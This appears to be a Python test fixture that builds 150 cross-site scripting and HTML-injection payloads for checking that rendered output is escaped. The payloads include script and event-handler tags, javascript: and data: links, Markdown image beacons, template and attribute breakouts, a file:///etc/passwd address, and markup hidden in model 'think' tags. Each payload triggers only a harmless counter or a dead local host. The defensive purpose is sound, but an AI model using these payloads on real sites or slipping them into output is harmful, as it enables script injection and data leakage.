"""150 texts that would be markup, a link, a picture or a request wherever somebody forgot to escape them.

Families after the ways known of: tags that run or fetch, handlers, addresses with other schemes, Markdown, styles, what
breaks out of an attribute, a comment, a template or a script, and tags of language models. Each trips the same wire.
"""

from __future__ import annotations

from itertools import chain, islice

TRIP = "window.__tripped=(window.__tripped||0)+1"
HOST = "http://127.0.0.2:9"  # nobody; what counts is that the browser asks
COUNT = 150
# ruff: noqa: E501

_RUNS = (
    "<script>{t}</script>", "<SCRIPT>{t}</SCRIPT>", "<script src={h}/x.js></script>", "<scr<script>ipt>{t}</script>",
    "<script/x>{t}</script>", "<script\t>{t}</script\t>", "<script>{t}//", "<svg><script>{t}</script></svg>",
    "<iframe srcdoc='<script>parent.{t}</script>'></iframe>", "<iframe src={h}/frame></iframe>",
    "<object data={h}/o></object>", "<embed src={h}/e>", "<applet code=x archive={h}/a></applet>",
    "<base href={h}/>", "<meta http-equiv=refresh content='0;url={h}/m'>", "<link rel=stylesheet href={h}/l.css>",
    "<link rel=prefetch href={h}/p>", "<form action={h}/f><button>ok</button></form>", "<math><mi xlink:href={h}>x</mi></math>",
    "<template><img src=x onerror={t}></template>", "<noscript><p title='</noscript><img src=x onerror={t}>'>",
    "<portal src={h}/portal>", "<frameset onload={t}>", "<marquee onstart={t}>x</marquee>",
)  # fmt: skip
_TAGS = (
    "img",
    "IMG",
    "image",
    "svg",
    "video",
    "audio",
    "input",
    "body",
    "details",
    "select",
    "textarea",
    "a",
    "x",
    "style",
)
_HANDLERS = (
    "src=x onerror={t}", 'src="x" onerror="{t}"', "src='x'onerror='{t}'", "/onload={t}//", "autofocus onfocus={t} tabindex=1",
    "open ontoggle={t}", "onmouseover={t} style=position:fixed;inset:0", "src={h}/beacon.png",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{t}", "JaVaScRiPt:{t}", "java\tscript:{t}", "&#106;avascript:{t}", "&#x6A;avascript&colon;{t}",
    "vbscript:msgbox(1)", "data:text/html,<script>{t}</script>", "data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+",
    "{h}/click?q=secret", "//127.0.0.2:9/click", "\\\\127.0.0.2\\share", "file:///etc/passwd",
    "/gradio_api/file={h}/proxied",
)  # fmt: skip
_LINKS = ('<a href="{a}">a</a>', "[a]({a})", "![a]({a})", "[a][1]\n\n[1]: {a}", "<{a}>")
_BREAKS = (
    '"><img src=x onerror={t}>', "'><img src=x onerror={t}>", "`><img src=x onerror={t}>", '" onmouseover="{t}',
    "' autofocus onfocus='{t}", "</mark></p><img src=x onerror={t}>", "</title><img src=x onerror={t}>",
    "</textarea><img src=x onerror={t}>", "</style><img src=x onerror={t}>", "--><img src=x onerror={t}>",
    "<!--><img src=x onerror={t}>-->", "<![CDATA[<img src=x onerror={t}>]]>", "]]><img src=x onerror={t}>",
    "</script><img src=x onerror={t}>", "${{{t}}}", "{{{{{t}}}}}", "{{{{constructor.constructor('{t}')()}}}}", "<%= {t} %>",
    "&lt;img src=x onerror={t}&gt;", "&amp;lt;img src=x onerror={t}&amp;gt;", "\\u003cimg src=x onerror={t}\\u003e",
    "＜img src=x onerror={t}＞", "<\x00img src=x onerror={t}>", "<img\x0csrc=x\x0conerror={t}>",
    "<thinking><img src=x onerror={t}></thinking>", "<think>![x]({h}/think)</think>", "$$\\href{{javascript:{t}}}{{x}}$$",
    "```mermaid\ngraph TD; A[\"<img src=x onerror={t}>\"]\n```", "[^1]\n\n[^1]: <img src=x onerror={t}>",
    "| a |\n|---|\n| <img src=x onerror={t}> |", "<style>@import '{h}/s.css';</style>",
    "<style>*{{background:url({h}/bg)}}</style>", "<p style='background:url({h}/bg)'>x</p>",
    "<svg><use href='{h}/u.svg#x'/></svg>", "<svg><animate onbegin={t} attributeName=x dur=1s>",
    "<svg><image href={h}/i.png /></svg>", "<picture><source srcset={h}/s.png><img></picture>",
    "<input type=image src={h}/i formaction=javascript:{t}>", "<video poster={h}/p.png></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror={t}></style></mglyph></table></mtext></math>",
)  # fmt: skip


def payloads() -> list[str]:
    """The 150, the same each time, from every family."""
    return [one.format(t=TRIP, h=HOST) for one in islice(_every(), COUNT)]


def _every() -> chain[str]:
    links = (
        link.replace("{a}", address)
        for at, address in enumerate(_ADDRESSES)
        for link in (_LINKS[at % len(_LINKS)], _LINKS[(at + 1) % len(_LINKS)], _LINKS[(at + 2) % len(_LINKS)])
    )
    pairs = [f"<{tag} {handler}>" for tag in _TAGS for handler in _HANDLERS]
    mixed = (pairs[at * 37 % len(pairs)] for at in range(len(pairs)))  # of every tag and every handler some
    return chain(_RUNS, _BREAKS, links, mixed)
